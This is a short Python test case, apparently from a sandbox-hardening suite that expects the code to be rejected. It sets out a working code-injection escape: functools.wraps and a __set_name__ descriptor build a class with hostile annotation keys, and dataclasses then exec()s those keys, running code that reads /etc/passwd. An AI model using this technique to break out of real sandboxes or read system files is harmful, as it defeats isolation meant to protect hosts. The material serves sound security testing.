# expect: reject module_attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: functools.wraps(obj) on a class copies obj.__annotations__ (answered
#   by obj's __getattr__) onto the class before failing on the class's read-only
#   __dict__; a descriptor's __set_name__ keeps the half-wrapped class (its owner);
#   a decorator stacked under @dataclass hands that class over, and its annotation
#   keys become field names in the source dataclass exec()s.
# Goal reached: code injected into dataclasses' exec; read /etc/passwd.
import dataclasses
import functools

kept = []


class Keep:
    def __set_name__(self, owner, name):
        kept.append(owner)


class Donor:
    __slots__ = ()

    def __getattr__(self, name):
        if name == "__annotations__":
            return {"__class__ or{print(open('/etc/passwd').read()[:40])}": int}
        raise AttributeError(name)


try:
    @functools.wraps(Donor())
    class Victim:
        k = Keep()
except AttributeError:
    pass


def swap(cls):
    return kept[0]


@dataclasses.dataclass(init=False, eq=False)
@swap
class Plain:
    pass


print(repr(Plain()))
